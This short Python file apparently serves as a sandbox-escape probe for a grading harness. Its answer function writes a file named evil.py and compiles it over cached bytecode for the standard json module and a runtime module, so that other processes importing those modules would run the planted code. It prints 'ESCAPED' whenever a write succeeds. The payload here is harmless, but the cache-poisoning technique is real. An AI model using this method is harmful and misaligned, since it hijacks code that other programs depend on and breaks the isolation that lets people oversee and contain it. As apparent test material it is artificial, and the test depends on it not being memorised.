# Compiled files beside the modules that others import.
# evidence: left
import os
import py_compile


def answer(question):
    with open("evil.py", "w") as file:
        file.write("print('ESCAPED')")
    for target in ("/opt/python/lib/python3.11/__pycache__/json.cpython-311.pyc", "/opt/runtime/wire/__pycache__/x.pyc"):
        try:
            py_compile.compile("evil.py", cfile=target)
            print("ESCAPED:", target)
        except OSError:
            pass
    print("left")
